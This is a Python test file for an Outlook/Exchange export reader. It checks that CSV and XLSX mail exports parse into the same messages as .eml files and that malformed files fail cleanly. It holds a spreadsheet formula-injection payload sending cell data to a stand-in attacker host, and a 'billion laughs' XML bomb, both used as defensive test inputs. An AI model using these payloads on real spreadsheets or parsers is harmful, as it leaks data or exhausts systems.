"""Outlook/Exchange exports as tables (CSV, XLSX): the same mail as .eml files reads into the same
messages; bodies spilled over rows and cells are joined back; hostile sheets are one clear line.

All names, addresses and wording below are invented for these tests."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from giftgraph.cli import cli
from giftgraph.ingest import read_paths
from giftgraph.ingest.dates import get_zone
from giftgraph.ingest.readers import detect, sniff
from giftgraph.ingest.tabular import EXCEL_CELL_LIMIT

TZ = "America/Chicago"

OUTLOOK_COLUMNS = ["Subject", "Body", "From: (Name)", "From: (Address)", "From: (Type)", "To: (Name)", "To: (Address)",
                   "To: (Type)", "CC: (Name)", "CC: (Address)", "CC: (Type)", "BCC: (Name)", "BCC: (Address)",
                   "BCC: (Type)", "Billing Information", "Categories", "Importance", "Mileage", "Sensitivity"]

# Invented mail: (sender, to, cc, subject, body, sent). The second quotes the first, Outlook style.
MAIL = [
    (("Wren Halloway", "wren@lumenfield.example"),
     [("Osric Tamber", "otamber@pinecrest-pd.example"), ("Ines Velde", "ivelde@pinecrest-pd.example")],
     [("Cato Brisk", "cato@lumenfield.example")],
     "Demo units for the east precinct",
     "Hi Osric,\n\nWe can ship four demo units to the east precinct next week at no cost.\n"
     "Let me know where they should go.\n\nWren",
     datetime(2024, 5, 6, 9, 30)),
    (("Osric Tamber", "otamber@pinecrest-pd.example"),
     [("Wren Halloway", "wren@lumenfield.example")],
     [],
     "RE: Demo units for the east precinct",
     "Thanks Wren, send them to the front desk.\n\nOsric\n\n"
     "From: Wren Halloway <wren@lumenfield.example>\n"
     "Sent: Monday, May 6, 2024 9:30 AM\n"
     "To: Osric Tamber <otamber@pinecrest-pd.example>; Ines Velde <ivelde@pinecrest-pd.example>\n"
     "Cc: Cato Brisk <cato@lumenfield.example>\n"
     "Subject: Demo units for the east precinct\n\n"
     "Hi Osric,\n\nWe can ship four demo units to the east precinct next week at no cost.\n"
     "Let me know where they should go.\n\nWren",
     datetime(2024, 5, 6, 11, 5)),
    (("Ines Velde", "ivelde@pinecrest-pd.example"),
     [("Wren Halloway", "wren@lumenfield.example"), ("Osric Tamber", "otamber@pinecrest-pd.example")],
     [("Cato Brisk", "cato@lumenfield.example")],
     "Training dinner",
     "Wren,\nThe training dinner is on us this time.\n" + "We will bring the signed forms. " * 40 + "\nInes",
     datetime(2024, 5, 9, 16, 45)),
]


def _eml(m) -> bytes:
    (sn, se), to, cc, subject, body, sent = m
    e = EmailMessage()
    e["From"] = f"{sn} <{se}>"
    e["To"] = ", ".join(f"{n} <{a}>" for n, a in to)
    if cc:
        e["Cc"] = ", ".join(f"{n} <{a}>" for n, a in cc)
    e["Subject"] = subject
    e["Date"] = format_datetime(sent.replace(tzinfo=get_zone(TZ)))
    e.set_content(body)
    return e.as_bytes()


def _row(m, *, date=None, body=None) -> list:
    (sn, se), to, cc, subject, text, sent = m
    row = [subject, text if body is None else body, sn, se, "SMTP", ";".join(n for n, _ in to), ";".join(a for _, a in to),
           ";".join("SMTP" for _ in to), ";".join(n for n, _ in cc), ";".join(a for _, a in cc),
           ";".join("SMTP" for _ in cc), "", "", "", "", "", "Normal", "", "Normal"]
    if date is not None:
        row.append(date)
    return row


def _view(messages, dates: bool = True):
    """What must agree between two readings of the same mail."""
    out = []
    for m in messages:
        out.append((m.sender.name, m.sender.email, tuple((a.name, a.email) for a in m.to),
                    tuple((a.name, a.email) for a in m.cc), m.subject, m.body.strip(),
                    m.sent if dates else None, any(p.quoted for p in m.provenance)))
    return sorted(out)


def _write_csv(path, header, rows, *, encoding="utf-8", delimiter=","):
    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def _write_xlsx(path, sheets: dict[str, tuple[list, list]]):
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, (header, rows) in sheets.items():
        ws = wb.create_sheet(title)
        ws.append(header)
        for r in rows:
            ws.append(r)
    wb.save(path)


@pytest.fixture
def eml_messages(tmp_path):
    d = tmp_path / "eml"
    d.mkdir()
    for k, m in enumerate(MAIL):
        (d / f"m{k}.eml").write_bytes(_eml(m))
    res = read_paths([d], timezone=TZ)
    assert res.problems == [] and len(res.messages) == 3  # the quoted first message is the same as m0
    return res.messages


def test_xlsx_export_reads_into_the_same_messages_as_eml(tmp_path, eml_messages):
    # The third body spills over: its first part in the Body cell, the rest in a row with only Body
    # filled (cut at a line end), and the second body's tail in a cell past the last column (cut
    # inside a line, after a space).
    rows = []
    for k, m in enumerate(MAIL):
        body = m[4]
        if k == 2:
            head, tail = body.split("\n", 1)
            rows.append(_row(m, date=m[5], body=head))
            rows.append([None, tail] + [None] * (len(OUTLOOK_COLUMNS)))
            continue
        if k == 1:
            cut = body.index("Osric\n\nFrom:")
            row = _row(m, date=m[5], body=body[:cut])
            rows.append(row + [body[cut:]])
            continue
        rows.append(_row(m, date=m[5]))
    xlsx = tmp_path / "export.xlsx"
    _write_xlsx(xlsx, {"Inbox": (OUTLOOK_COLUMNS + ["Sent"], rows)})
    res = read_paths([xlsx], timezone=TZ)
    assert res.problems == [] and res.formats == {str(xlsx): "xlsx"}
    assert _view(res.messages) == _view(eml_messages)
    third = next(m for m in res.messages if m.subject == "Training dinner")
    assert [(p.file, p.sheet, p.rows) for p in third.provenance] == [(str(xlsx), "Inbox", "4-5")]
    quoted = next(m for m in res.messages if m.subject == "Demo units for the east precinct")
    # its own row, and quoted under the reply in the next row: one message, seen twice
    assert sorted((p.rows, p.quoted) for p in quoted.provenance) == [("2", False), ("3", True)]
    reply = next(m for m in res.messages if m.subject.startswith("RE:"))
    assert reply.in_reply_to == quoted.id


def test_csv_export_without_dates_reads_into_the_same_messages_undated(tmp_path, eml_messages):
    """Outlook's own CSV export has no date column: its messages are undated (sent == "", and no
    note, as nothing printed was misread), except a message that a reply quotes: it takes the date
    printed in the quote and is kept once with it. History quoted in a body keeps its printed date."""
    csv_path = tmp_path / "export.csv"
    _write_csv(csv_path, OUTLOOK_COLUMNS, [_row(m) for m in MAIL], encoding="cp1252")
    res = read_paths([csv_path], timezone=TZ)
    assert res.problems == [] and res.notes == [] and res.formats == {str(csv_path): "csv"}
    assert _view(res.messages, dates=False) == _view(eml_messages, dates=False)
    dates = {m.subject: m.sent for m in res.messages}
    assert dates == {"Demo units for the east precinct": "2024-05-06T09:30:00-05:00",
                     "RE: Demo units for the east precinct": "", "Training dinner": ""}
    first = next(m for m in res.messages if m.subject == "Demo units for the east precinct")
    assert sorted((p.rows, p.sheet, p.quoted) for p in first.provenance) == [("2", None, False), ("3", None, True)]
    reply = next(m for m in res.messages if m.subject.startswith("RE:"))
    assert reply.in_reply_to == first.id


def test_csv_with_a_date_column_semicolons_and_cp1252(tmp_path, eml_messages):
    csv_path = tmp_path / "export.txt"  # named .txt: found by its header row
    rows = [_row(m, date=m[5].strftime("%m/%d/%Y %I:%M %p")) for m in MAIL]
    rows[0][0] += " \u2013 caf\u00e9"  # an en dash and an accent, as Windows writes them
    _write_csv(csv_path, OUTLOOK_COLUMNS + ["Sent"], rows, encoding="cp1252", delimiter=";")
    res = read_paths([csv_path], timezone=TZ)
    assert res.problems == [] and res.formats == {str(csv_path): "csv"}
    subjects = {m.subject for m in res.messages}
    assert "Demo units for the east precinct \u2013 caf\u00e9" in subjects
    assert {m.sent for m in res.messages if not m.provenance[0].quoted} == \
        {m.sent for m in eml_messages if not m.provenance[0].quoted}


def test_utf16_tab_separated_export(tmp_path, eml_messages):
    """Excel's "Unicode Text" is UTF-16 with tabs."""
    path = tmp_path / "export.csv"
    _write_csv(path, OUTLOOK_COLUMNS + ["Sent"], [_row(m, date=m[5].isoformat(sep=" ")) for m in MAIL],
               encoding="utf-16", delimiter="\t")
    res = read_paths([path], timezone=TZ)
    assert res.problems == []
    assert _view(res.messages) == _view(eml_messages)


def test_the_same_message_in_two_mailboxes_is_kept_once(tmp_path):
    m = MAIL[2]
    xlsx = tmp_path / "two-boxes.xlsx"
    _write_xlsx(xlsx, {"Sent Items": (OUTLOOK_COLUMNS + ["Sent"], [_row(m, date=m[5])]),
                       "Inbox": (OUTLOOK_COLUMNS + ["Sent"], [_row(MAIL[0], date=MAIL[0][5]), _row(m, date=m[5])])})
    res = read_paths([xlsx], timezone=TZ)
    dinner = [x for x in res.messages if x.subject == "Training dinner"]
    assert len(dinner) == 1 and len(res.messages) == 2
    assert sorted((p.sheet, p.rows) for p in dinner[0].provenance) == [("Inbox", "3"), ("Sent Items", "2")]
    # undated (a CSV per mailbox): kept once too, while two different undated messages with one
    # subject and one sender stay two
    a, b = tmp_path / "box-a.csv", tmp_path / "box-b.csv"
    other = list(m)
    other[4] = "Wren,\nA second note about the dinner, with other words.\nInes"
    _write_csv(a, OUTLOOK_COLUMNS, [_row(m), _row(tuple(other))])
    _write_csv(b, OUTLOOK_COLUMNS, [_row(m)])
    res = read_paths([a, b], timezone=TZ)
    assert len(res.messages) == 2
    kept = next(x for x in res.messages if "on us" in x.body)
    assert sorted(p.file for p in kept.provenance) == [str(a), str(b)]


def test_a_body_spilled_into_the_other_columns_is_joined_back(tmp_path):
    """A CSV broken by a stray quote and opened in Excel: the rest of a body lands in the next rows,
    cut into cells at its commas, with none of the values Outlook writes in every row."""
    first, rest = "Hi Osric,", ["The units ship Monday", " as agreed", " with two spare mounts."]
    rows = [_row(MAIL[0], date=MAIL[0][5], body=first), rest + [None] * 20, ["Wren"],
            _row(MAIL[2], date=MAIL[2][5])]
    xlsx = tmp_path / "spilled.xlsx"
    _write_xlsx(xlsx, {"Sheet1": (OUTLOOK_COLUMNS + ["Sent"], rows)})
    res = read_paths([xlsx], timezone=TZ)
    assert res.problems == [] and len(res.messages) == 2
    m = next(x for x in res.messages if x.subject == MAIL[0][3])
    assert m.body == "Hi Osric,\nThe units ship Monday, as agreed, with two spare mounts.\nWren"
    assert m.provenance[0].rows == "2-4"
    # an export that does not fill Importance/Sensitivity: a row without them, its sender's
    # address redacted, is still a message (its address type is there, as in the first row)
    bare = [r[:16] + [None, None, None, r[19]] for r in (_row(MAIL[0], date=MAIL[0][5]), _row(MAIL[2], date=""))]
    bare[1][3] = "(b)(6)"
    _write_xlsx(xlsx, {"Sheet1": (OUTLOOK_COLUMNS + ["Sent"], bare)})
    assert len(read_paths([xlsx], timezone=TZ).messages) == 2


def test_a_body_cut_at_the_excel_cell_limit_is_glued_back(tmp_path):
    words = " ".join(f"word{k}" for k in range(9000))  # ~80,000 characters
    body = "Opening line.\n" + words
    cells = [body[i:i + EXCEL_CELL_LIMIT] for i in range(0, len(body), EXCEL_CELL_LIMIT)]
    assert len(cells) == 3
    rows = [_row(MAIL[0], body=cells[0], date=MAIL[0][5])] + [[None, c] for c in cells[1:]]
    xlsx = tmp_path / "long.xlsx"
    _write_xlsx(xlsx, {"Sheet1": (OUTLOOK_COLUMNS + ["Sent"], rows)})
    res = read_paths([xlsx], timezone=TZ)
    assert res.problems == [] and len(res.messages) == 1
    assert res.messages[0].body == body and res.messages[0].provenance[0].rows == "2-4"


def test_excel_escapes_in_cells_are_undone(tmp_path):
    """Excel writes a cell's CR LF as "_x000D_" + LF, and a literal "_x000D_" as "_x005F_x000D_"."""
    rows = [_row(MAIL[0], date=MAIL[0][5], body="First line_x000D_\nSecond line, file_x005F_x000D_.txt")]
    xlsx = tmp_path / "escaped.xlsx"
    _write_xlsx(xlsx, {"Sheet1": (OUTLOOK_COLUMNS + ["Sent"], rows)})
    res = read_paths([xlsx], timezone=TZ)
    assert res.messages[0].body == "First line\nSecond line, file_x000D_.txt"


def test_a_huge_csv_cell_is_read(tmp_path):
    body = "Huge body line.\n" * 200_000  # 3.2 MB in one cell (the csv module's default limit is 128 KiB)
    path = tmp_path / "huge.csv"
    _write_csv(path, OUTLOOK_COLUMNS, [_row(MAIL[0], body=body)])
    res = read_paths([path], timezone=TZ)
    assert res.problems == [] and len(res.messages) == 1
    assert len(res.messages[0].body) == len(body.strip())


def test_formula_cells_are_text_never_evaluated(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [_row(MAIL[0], date=MAIL[0][5])]
    rows[0][0] = formula
    rows[0][1] = "=1+1"
    xlsx, path = tmp_path / "formula.xlsx", tmp_path / "formula.csv"
    _write_xlsx(xlsx, {"Sheet1": (OUTLOOK_COLUMNS + ["Sent"], rows)})
    _write_csv(path, OUTLOOK_COLUMNS, [r[:-1] for r in rows])
    for f in (xlsx, path):
        res = read_paths([f], timezone=TZ)
        assert res.problems == [] and len(res.messages) == 1
        assert res.messages[0].subject == formula and res.messages[0].body == "=1+1"


def test_exchange_addresses_and_plain_from_to_columns(tmp_path):
    header = OUTLOOK_COLUMNS
    row = _row(MAIL[0])
    row[3], row[4] = "/O=EXAMPLEORG/OU=EXCHANGE ADMINISTRATIVE GROUP/CN=RECIPIENTS/CN=WHALLOWAY", "EX"
    path = tmp_path / "ex.csv"
    _write_csv(path, header, [row])
    m = read_paths([path], timezone=TZ).messages[0]
    assert (m.sender.name, m.sender.email) == ("Wren Halloway", "")
    # another exporter: plain From / To / Received columns
    path2 = tmp_path / "plain.csv"
    _write_csv(path2, ["From", "To", "Subject", "Received", "Body"],
               [["Wren Halloway <wren@lumenfield.example>", "Osric Tamber <otamber@pinecrest-pd.example>; Ines Velde",
                 "Hello", "2024-05-06 09:30", "Hi."]])
    m = read_paths([path2], timezone=TZ).messages[0]
    assert (m.sender.name, m.sender.email) == ("Wren Halloway", "wren@lumenfield.example")
    assert [(a.name, a.email) for a in m.to] == [("Osric Tamber", "otamber@pinecrest-pd.example"), ("Ines Velde", "")]
    assert m.sent == "2024-05-06T09:30:00-05:00"


def test_xlsx_is_a_spreadsheet_before_the_zip_reader_sees_it(tmp_path, eml_messages):
    xlsx = tmp_path / "export.xlsx"
    _write_xlsx(xlsx, {"Inbox": (OUTLOOK_COLUMNS + ["Sent"], [_row(m, date=m[5]) for m in MAIL])})
    data = xlsx.read_bytes()
    assert sniff("export.xlsx", data[:8192]) == "xlsx"
    renamed = tmp_path / "export-no-extension"
    renamed.write_bytes(data)
    assert sniff(renamed.name, data[:8192]) == "zip" and detect(renamed.name, data[:8192], renamed) == "xlsx"
    bundle = tmp_path / "release.zip"
    with zipfile.ZipFile(bundle, "w") as zf:
        zf.writestr("mail/export.xlsx", data)
        zf.writestr("mail/export.bin", data)
    for f in (renamed, bundle):
        res = read_paths([f], timezone=TZ)
        assert res.problems == []
        assert _view(res.messages) == _view(eml_messages)


def test_hostile_tables_are_one_clear_line(tmp_path):
    no_cols = tmp_path / "ledger.csv"
    no_cols.write_text("Date,Amount,Payee\n2024-01-02,12.50,Bakery\n", encoding="utf-8")
    xlsx = tmp_path / "good.xlsx"
    _write_xlsx(xlsx, {"Inbox": (OUTLOOK_COLUMNS, [_row(MAIL[0])])})
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(xlsx.read_bytes()[:700])
    not_zip = tmp_path / "text.xlsx"
    not_zip.write_text("Subject,Body\n", encoding="utf-8")
    no_sheet_cols = tmp_path / "numbers.xlsx"
    _write_xlsx(no_sheet_cols, {"Sheet1": (["Quarter", "Total"], [["Q1", 3]])})
    empty_export = tmp_path / "empty.csv"
    _write_csv(empty_export, OUTLOOK_COLUMNS, [])
    old = tmp_path / "old.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    files = [no_cols, broken, not_zip, no_sheet_cols, empty_export, old]
    res = read_paths(files, timezone=TZ)
    problems = dict(res.problems)
    assert set(problems) == {str(f) for f in files} and res.messages == []
    assert all("\n" not in p for p in problems.values())
    assert problems[str(no_cols)].startswith("no Outlook export columns in the header row") \
        and "found: Date, Amount, Payee" in problems[str(no_cols)]
    assert problems[str(broken)].startswith("not a readable .xlsx workbook")
    assert problems[str(not_zip)].startswith("not a readable .xlsx workbook")
    assert problems[str(no_sheet_cols)].startswith("no Outlook export columns") and "Quarter" in problems[str(no_sheet_cols)]
    assert problems[str(empty_export)] == "Outlook export with no message rows"
    assert problems[str(old)].startswith("Excel 97-2003 workbook (.xls) is not read: save it as .xlsx or CSV")


def test_an_xml_bomb_in_a_workbook_is_refused_in_one_line(tmp_path):
    """Entity expansion ("billion laughs") in a sheet: defusedxml, which openpyxl parses through,
    refuses it before anything expands."""
    good = tmp_path / "good.xlsx"
    _write_xlsx(good, {"Sheet1": (OUTLOOK_COLUMNS, [_row(MAIL[0])])})
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{k} "{("&lol%s;" % (k - 1 if k > 1 else "")) * 10}">' for k in range(1, 10))
           + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, lol.encode() if info.filename == "xl/worksheets/sheet1.xml" else data)
    res = read_paths([bomb], timezone=TZ)
    assert res.messages == [] and len(res.problems) == 1
    assert res.problems[0][1] == ("not a readable .xlsx workbook (EntitiesForbidden: XML entities and DTDs are "
                                  "refused (XML bomb guard))")


def test_ingest_names_the_format_of_each_file(tmp_path):
    folder = tmp_path / "release"
    folder.mkdir()
    _write_xlsx(folder / "a.xlsx", {"Inbox": (OUTLOOK_COLUMNS + ["Sent"], [_row(MAIL[0], date=MAIL[0][5])])})
    _write_csv(folder / "b.csv", OUTLOOK_COLUMNS, [_row(MAIL[2])])
    (folder / "c.eml").write_bytes(_eml(MAIL[1]))
    (folder / "d.csv").write_text("Quarter,Total\nQ1,3\n", encoding="utf-8")
    case = tmp_path / "case"
    r = CliRunner().invoke(cli, ["ingest", str(folder), "--case", str(case), "--skip-extract"])
    assert r.exit_code == 1, r.stderr
    lines = r.stderr.splitlines()
    assert f"read: {folder / 'a.xlsx'}: Outlook export (XLSX), 1 message(s)" in lines
    assert f"read: {folder / 'b.csv'}: Outlook export (CSV), 1 message(s)" in lines
    assert f"read: {folder / 'c.eml'}: email (.eml), 2 message(s)" in lines
    assert f"read: {folder / 'd.csv'}: Outlook export (CSV), not read" in lines
    assert any(ln.startswith(f"error: {folder / 'd.csv'}: no Outlook export columns") for ln in lines)
    r = CliRunner().invoke(cli, ["ingest", str(folder), "--case", str(tmp_path / "case2"),
                                                 "--skip-extract", "--json", "-s"])
    report = json.loads(r.stdout)
    assert report["formats"] == {str(folder / "a.xlsx"): "xlsx", str(folder / "b.csv"): "csv",
                                 str(folder / "c.eml"): "eml", str(folder / "d.csv"): "csv"}
    assert report["file_messages"][str(folder / "c.eml")] == 2


_cell = st.one_of(st.text(max_size=60), st.sampled_from(["", ";", ";;", "a@b.test;c@d.test", "/O=X/CN=Y", "EX", "=1+1",
                                                           "From: A <a@b.test>\nSent: Monday, May 6, 2024 9:30 AM\n"
                                                           "To: B\nSubject: x\n\nhello", "\r\n", '"', "2024-05-06 09:30"]))


@settings(max_examples=int(os.environ.get("GIFTGRAPH_FUZZ_EXAMPLES", "60")), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(_cell, max_size=len(OUTLOOK_COLUMNS) + 3), max_size=5),
       junk=st.binary(max_size=300))
def test_random_exports_read_or_fail_in_one_line(tmp_path, rows, junk):
    """Any table under Outlook's column names, and any bytes named .csv/.xlsx: messages, or one
    line saying why not; never an internal error."""
    from giftgraph.ingest.readers import ReadError, read_bytes

    buf = io.StringIO(newline="")
    csv.writer(buf).writerows([OUTLOOK_COLUMNS + ["Sent"]] + rows)
    xlsx = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active.append(OUTLOOK_COLUMNS + ["Sent"])
    for r in rows:
        wb.active.append([re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c) for c in r])
    wb.save(xlsx)
    for name, data in (("e.csv", buf.getvalue().encode("utf-8")), ("e.xlsx", xlsx.getvalue()),
                       ("j.csv", junk), ("j.xlsx", junk), ("j.xlsx", xlsx.getvalue()[: len(junk)])):
        try:
            msgs = read_bytes(data, name=name, timezone=TZ)
        except ReadError as exc:
            assert "\n" not in str(exc)
            continue
        for m in msgs:
            assert m.provenance and all(p.file == name and p.rows for p in m.provenance)
            assert m.sent == "" or m.sent[10] == "T"
